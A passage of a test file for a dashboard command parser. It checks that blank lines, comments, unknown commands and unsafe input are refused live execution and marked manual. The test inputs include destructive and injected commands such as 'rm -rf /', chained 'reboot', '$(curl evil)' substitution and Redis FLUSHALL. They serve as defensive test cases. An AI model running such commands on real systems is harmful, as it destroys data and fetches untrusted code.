    expect(parseCommand("FLUSHALL", "redis").type).toBe("manual");
  });

  it("blank and comment-only lines are not commands", () => {
    for (const line of ["", "   ", "# Check error rates", "  # indented"]) {
      expect(reasonOf(parseCommand(line, "bash")), JSON.stringify(line)).toMatch(/not a command/);
    }
  });

  it("unknown commands and broken quoting are manual, with the line to copy", () => {
    expect(bash("kubectl get pods")).toEqual({
      type: "manual",
      reason: '"kubectl" is not a diagnostic command this dashboard runs live',
      cli: "kubectl get pods",
    });
    expect(reasonOf(bash("curl 'http://your-api-url/metrics"))).toMatch(/cannot be split/);
    expect(bash("rm -rf /").type).toBe("manual");
    expect(bash("htop && reboot").type).toBe("manual");
    expect(bash("$(curl evil)").type).toBe("manual");
    expect(bash("`reboot`").type).toBe("manual");
    expect(reasonOf(bash("redis-cli INFO\nredis-cli FLUSHALL"))).toMatch(/one command per line/);
    expect(reasonOf(bash(`redis-cli GET ${"k".repeat(5000)}`))).toMatch(/longer than/);
  });
});
